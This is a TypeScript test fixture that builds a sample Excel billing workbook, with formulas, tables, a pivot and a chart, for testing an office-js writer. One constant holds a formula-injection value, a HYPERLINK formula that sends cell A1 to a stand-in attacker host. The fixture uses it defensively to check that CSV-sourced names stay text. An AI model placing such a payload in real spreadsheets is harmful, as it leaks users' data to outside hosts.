/**
 * A small hand-made workbook layout that uses every feature the office-js writer renders: styles, number formats,
 * dates, formulas (within a sheet, across sheets, structured references), text that looks like a formula, outline
 * levels, frozen panes, tab colour, a table, a pivot with its static fallback, a chart, and two user tables. Plus a
 * helper that writes a layout through the fake Excel.
 */
import { ALL_CAPABILITIES, type Capabilities } from '../../src/excel/capabilities';
import { writeWorkbook, type WriteOptions, type WriteResult } from '../../src/excel/write-workbook';
import { PRINT_FOOTER, type CellValue, type ColumnLayout, type RowLayout, type UserTableLayout, type WorkbookLayout } from '../../src/workbook/layout';
import { FakeExcel } from '../fake-excel/fake-excel';

export const DAY = 86_400_000;
export const date = (year: number, month: number, day: number): CellValue => ({ kind: 'date', utc: Date.UTC(year, month - 1, day) });
export const formula = (text: string, result: number | string = 0): CellValue => ({ kind: 'formula', formula: text, result });

export const NORTHWIND = '11111111-1111-4111-8111-111111111111';
export const FABRIKAM = '22222222-2222-4222-8222-222222222222';
/** A customer name straight from a CSV file: must stay text. */
export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

const MONEY = '#,##0.00;-#,##0.00';

const reportColumns: ColumnLayout[] = [
  { width: 40, kind: 'text', format: '@' },
  { width: 22, kind: 'id', format: '@' },
  { width: 12, kind: 'date', format: 'yyyy-mm-dd' },
  { width: 10, kind: 'quantity', format: '#,##0' },
  { width: 14, kind: 'money', format: MONEY, group: 'cost' },
  { width: 14, kind: 'money', format: MONEY, group: 'sales' },
  { width: 14, kind: 'money', format: MONEY },
];

function reportRows(customerName: string): RowLayout[] {
  return [
    { cells: ['Billing report October 2026'], style: 'title' },
    { cells: ['Cycle 2026-10-01 to 2026-10-31'], style: 'caption' },
    { cells: [] },
    { cells: ['Organization / product', 'ID', 'Date', 'Quantity', 'Cost', 'Sales', 'Margin'], style: 'header' },
    { cells: [customerName, NORTHWIND, null, null, formula('=SUBTOTAL(9,E6:E8)', 150), formula('=SUBTOTAL(9,F6:F8)', 172.5), formula('=F5-E5', 22.5)], style: 'organization' },
    { cells: ['  Microsoft 365 E3', 'CFQ7TTC0LF8Q', null, null, formula('=SUBTOTAL(9,E7:E8)', 150), formula('=SUBTOTAL(9,F7:F8)', 172.5), formula('=F6-E6', 22.5)], style: 'product', outlineLevel: 1 },
    { cells: ['', '00123', date(2026, 10, 1), 3, 100, 115, formula('=F7-E7', 15)], outlineLevel: 2 },
    { cells: ['', '-5', date(2026, 10, 15), -1, { value: 50, format: '0.00' }, 57.5, formula('=F8-E8', 7.5)], outlineLevel: 2 },
    { cells: ['Total', '', null, null, formula('=SUBTOTAL(9,E5:E8)', 150), formula('=SUBTOTAL(9,F5:F8)', 172.5), formula('=F9-E9', 22.5)], style: 'total' },
    { cells: ['Needs attention', { value: '+1 555 0100', style: 'warning' }, true, 'TRUE', "'quoted", '@mention', { value: '3/4', style: 'good' }] },
  ];
}

const lineColumns: ColumnLayout[] = [
  { width: 38, kind: 'id', format: '@' },
  { width: 30, kind: 'text', format: '@' },
  { width: 14, kind: 'id', format: '@' },
  { width: 12, kind: 'date', format: 'yyyy-mm-dd' },
  { width: 14, kind: 'money', format: MONEY, group: 'cost' },
  { width: 14, kind: 'money', format: MONEY, group: 'sales' },
];
const LINE_HEADER = ['Customer ID', 'Customer', 'Product ID', 'Charge start', 'Cost', 'Sales'];

export function smallLayout(options: { customerName?: string; extraCandidates?: CellValue[][] } = {}): WorkbookLayout {
  const customerName = options.customerName ?? 'Northwind Traders';
  const lines: CellValue[][] = [
    [NORTHWIND, customerName, 'CFQ7TTC0LF8Q', date(2026, 10, 1), 100, 115],
    [NORTHWIND, customerName, 'CFQ7TTC0LF8Q', date(2026, 10, 15), 50, 57.5],
    [FABRIKAM, 'Fabrikam', 'CFQ7TTC0LDPB', date(2026, 10, 1), 30, 34.5],
    [FABRIKAM, 'Fabrikam', '0042', date(2026, 10, 1), 12.25, 14.09],
  ];
  const userTables: UserTableLayout[] = [
    {
      name: 'Customers',
      excelName: 'Customers',
      sheetName: 'Customers',
      columns: ['Customer ID', 'Organization', 'Markup %', 'Billable'],
      keyColumns: ['Customer ID'],
      formats: ['@', '@', '0%', '@'],
      widths: [38, 30, 10, 9],
      candidates: [
        [NORTHWIND, customerName, null, 'Yes'],
        [FABRIKAM, 'Fabrikam', null, 'Yes'],
        ...(options.extraCandidates ?? []),
      ],
    },
    {
      name: 'Prices',
      excelName: 'Prices',
      sheetName: 'Prices',
      columns: ['Product ID', 'SKU ID', 'Product', 'Term', 'Billing plan', 'Sales price', 'Markup %', 'Margin %', 'Retail price', 'Discount %'],
      keyColumns: ['Product ID', 'SKU ID'],
      formats: ['@', '@', '@', '@', '@', '#,##0.00', '0%', '0%', '#,##0.00', '0%'],
      widths: [14, 8, 36, 6, 10, 12, 10, 10, 12, 10],
      candidates: [
        ['CFQ7TTC0LF8Q', '0001', 'Microsoft 365 E3', 'P1M', 'Monthly', null, 0.15, null, null, null],
        ['CFQ7TTC0LDPB', '0001', 'Microsoft 365 Business Basic', 'P1M', 'Monthly', null, 0.1, null, null, null],
      ],
    },
  ];
  return {
    sheets: [
      {
        name: 'Billing Report',
        columns: reportColumns,
        rows: reportRows(customerName),
        freeze: { rows: 4, columns: 1 },
        print: { orientation: 'landscape', columns: 7, firstRow: 0, titleRows: 4, pageBreaksBefore: [7], footer: PRINT_FOOTER },
        tables: [],
        showOutlineLevel: 2,
        pivots: [],
        charts: [],
        tabColor: '#1F4E78',
      },
      {
        name: 'Billing Lines',
        columns: lineColumns,
        rows: [{ cells: LINE_HEADER, style: 'header' }, ...lines.map((cells) => ({ cells }))],
        freeze: { rows: 1, columns: 0 },
        tables: [{ name: 'BillingLines', headerRow: 0, lastRow: lines.length, firstColumn: 0, lastColumn: LINE_HEADER.length - 1, style: 'TableStyleMedium2', columns: LINE_HEADER }],
        pivots: [],
        charts: [],
      },
      {
        name: 'Summary',
        columns: [
          { width: 30, kind: 'text', format: '@' },
          { width: 14, kind: 'money', format: MONEY },
          { width: 14, kind: 'money', format: MONEY },
          { width: 4, kind: 'text', format: '@' },
          { width: 24, kind: 'text', format: '@' },
          { width: 14, kind: 'money', format: MONEY },
        ],
        rows: [
          { cells: ['Summary', null, null, null, 'Report total', formula("='Billing Report'!E9", 150)], style: 'title' },
          { cells: [null, null, null, null, 'Lines total', formula('=SUM(BillingLines[Cost])', 192.25)] },
        ],
        tables: [],
        pivots: [
          {
            name: 'Sales by customer',
            sourceSheet: 'Billing Lines',
            sourceTable: 'BillingLines',
            anchor: { row: 3, column: 0 },
            rows: ['Customer'],
            columns: [],
            values: [
              { field: 'Cost', name: 'Total cost', numberFormat: MONEY },
              { field: 'Sales', name: 'Sales', numberFormat: MONEY },
            ],
            fallback: [
              { cells: ['Customer', 'Total cost', 'Sales'], style: 'header' },
              { cells: [customerName, 150, 172.5] },
              { cells: ['Fabrikam', 42.25, 48.59] },
              { cells: ['Grand total', 192.25, 221.09], style: 'total' },
            ],
          },
        ],
        charts: [{ name: 'Cost and sales', title: 'Cost and sales by customer', data: { row: 3, column: 0, rows: 3, columns: 3 }, anchor: { row: 3, column: 7 }, size: { width: 480, height: 288 } }],
      },
    ],
    userTables,
    notes: [],
  };
}

export interface WriteRun {
  fake: FakeExcel;
  result: WriteResult;
}

/** Writes a layout into a fake Excel (a fresh one unless given) with every capability unless told otherwise. */
export async function writeLayout(layout: WorkbookLayout, options: Partial<WriteOptions> & { fake?: FakeExcel; capabilities?: Capabilities } = {}): Promise<WriteRun> {
  const fake = options.fake ?? new FakeExcel();
  const result = await writeWorkbook(fake.context(), layout, { ...options, capabilities: options.capabilities ?? ALL_CAPABILITIES });
  return { fake, result };
}
